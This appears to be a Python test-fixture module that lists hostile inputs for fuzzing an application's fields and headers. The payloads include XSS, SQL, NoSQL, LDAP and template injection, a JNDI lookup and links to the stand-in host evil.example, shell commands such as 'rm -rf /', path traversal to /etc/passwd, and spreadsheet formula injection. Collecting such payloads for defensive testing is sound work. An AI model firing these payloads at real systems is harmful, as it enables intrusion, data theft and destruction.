"""Texts that have broken programs: tried in every field, header and parameter of ours.

What they would do is harmless: a dialog, a mark on the page, a request to a host that is not there.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from types import MappingProxyType
from typing import Final

# Never to be asked for anything.
HOST: Final = "evil.example"
# Set on the page's window by whatever script of these runs; the id of whatever element is made.
OWNED: Final = "owned"

MARKUP: Final[Mapping[str, Sequence[str]]] = MappingProxyType(
    {
        "HTML": (
            f"<script>window.{OWNED}=1;alert(1)</script>",
            f"<img src=x onerror=window.{OWNED}=2>",
            f'"><img src=https://{HOST}/i.png id={OWNED}>',
            f"'-alert(1)-'<b id={OWNED}>b</b>",
            f"</style></script><iframe src=javascript:parent.{OWNED}=3 id={OWNED}></iframe>",
            f"<body onload=window.{OWNED}=4><input autofocus onfocus=window.{OWNED}=5>",
            f'<a href="javascript:window.{OWNED}=6" id={OWNED}>x</a>',
            f"<form action=https://{HOST}/ id={OWNED}><button>go</button></form>",
            f"<style>*{{background:url(https://{HOST}/c)}}</style>",
            f"<link rel=stylesheet href=https://{HOST}/s.css><meta http-equiv=refresh content=0>",
            f"&lt;script&gt;window.{OWNED}=7&lt;/script&gt;",
            f"\uff1cscript\uff1ewindow.{OWNED}=8\uff1c/script\uff1e",
        ),
        "SVG": (
            f"<svg onload=window.{OWNED}=9 id={OWNED}><animate onbegin=window.{OWNED}=10></svg>",
            f"<svg><foreignObject><iframe srcdoc='<script>parent.{OWNED}=11</script>'></svg>",
            f"<math><mtext><table><mglyph><style><img src=x onerror=window.{OWNED}=12>",
        ),
        "Markdown": (
            f"[click](https://{HOST}/m) ![seen](https://{HOST}/m.png)",
            f"[x](javascript:window.{OWNED}=13) <https://{HOST}/auto> https://{HOST}/bare",
            "![x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQub3duZWQ9MTQ8L3NjcmlwdD4=)",
            f"[reference][r]\n\n[r]: //{HOST}/r",
            "# heading\n\n- list\n\n| a | b |\n|---|---|\n| **c** | `d` |\n\n---\n\n```\ncode\n```",
        ),
        "Streamlit": (
            ":red-badge[badge] :blue[colour] :green-background[ground] :rainbow[r] :small[s]",
            ":material/bug_report: :streamlit: :shortcode: :tulip:",
            "$x^2$ $$\\frac{1}{2}$$ \\(y\\) \\href{javascript:alert(1)}{z}",
        ),
        "Plotly": (
            "<extra></extra>%{x}%{customdata[0]} <br><sup>up</sup>",
            f"<a href='https://{HOST}/p'>plot</a> <span style='color:red'>s</span>",
        ),
    }
)

TEXTS: Final[Mapping[str, Sequence[str]]] = MappingProxyType(
    {
        "SQL": (
            "'; DROP TABLE quote; --",
            "' OR '1'='1",
            "1; SELECT pg_sleep(10)--",
            "\\'; TRUNCATE attempt CASCADE; --",
            "' UNION SELECT key_hash FROM api_key--",
            "$$; COPY quote TO PROGRAM 'id'; $$",
            "%s %(x)s %% $1 :name ? {} {0}",
            "U&'\\0027' E'\\x27'",
        ),
        "NoSQL": ('{"$gt": ""}', "'; return true; var x='", '{"$where": "sleep(1000)"}'),
        "LDAP": ("*)(uid=*))(|(uid=*", "admin)(&)", "\\2a\\28\\29"),
        "template": (
            "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
            "{{config.__class__.__init__.__globals__}}",
            "{0.__class__.__mro__}",
            "${jndi:ldap://evil.example/a}",
        ),
        "shell": (
            "; rm -rf / #",
            "$(id)`id`|id&&id",
            "\r\nid\n",
            "--help -v --",
            "~root/$HOME/%PATH%",
        ),
        "path": (
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd%00.json",
            "%2e%2e%2f%2e%2e%2f",
            "....//....//",
            "file:///etc/passwd",
            "\\\\evil.example\\share",
        ),
        "header": (
            "x\r\nX-Injected: 1",
            "x\nSet-Cookie: a=b",
            "x\r\n\r\n<script>alert(1)</script>",
            "%0d%0aX-Injected:%201",
            "\u560a\u560dX-Injected: 1",
            "x\rLocation: https://evil.example",
        ),
        "format": ("%n%n%s%x%d", "%99999999d", "{:>99999999}", "{!r}{__import__}", "%(asctime)s"),
        "Unicode": (
            "\u202egnp.exe\u202c \u2066isolated\u2069",
            "zero\u200bwidth\u200d\u2060\ufeff",
            "e\u0301\u0301\u0301" + "\u0335" * 50,
            "\u0130stanbul \u0131 \u017f \u212a \ufb01",
            "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd \U0001f1f5\U0001f1f9",
            "\ud7ff\ue000\ufffd\uffff\U0010ffff",
            "\u2028line\u2029paragraph\x85next",
            "\x1b[31mred\x1b[0m\x07\x08\x7f",
            "\u0660\u0661\uff10\uff11\u00bd",
            "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u4f60\u597d",
        ),
        "spreadsheet": (
            "=cmd|' /C calc'!A0",
            '=HYPERLINK("https://evil.example","x")',
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            '";=1+1;"',
        ),
        "log": (
            'x", "level": "critical", "event": "forged',
            '\n{"event": "forged", "level": "critical"}',
            "\u2028{forged}\u2028",
            "2026-01-01 00:00:00 [error] forged",
        ),
        "JSON": ("__proto__", "constructor.prototype", '{"a":', "NaN", "null", "\\u0000", "\\"),
        "length": ("A" * 190, "\U0001f600" * 60),
        **MARKUP,
    }
)
# What no text of ours may hold; JSON can carry both.
REFUSED: Final = (
    "nul\0byte",
    "\0",
    "lone \ud800 surrogate",
    "\udfff\ud800",
    "over\udcc0\udc80long",
)

ALL: Final[Sequence[tuple[str, str]]] = tuple(
    (f"{kind} {number}", text)
    for kind, texts in TEXTS.items()
    for number, text in enumerate(texts, 1)
)
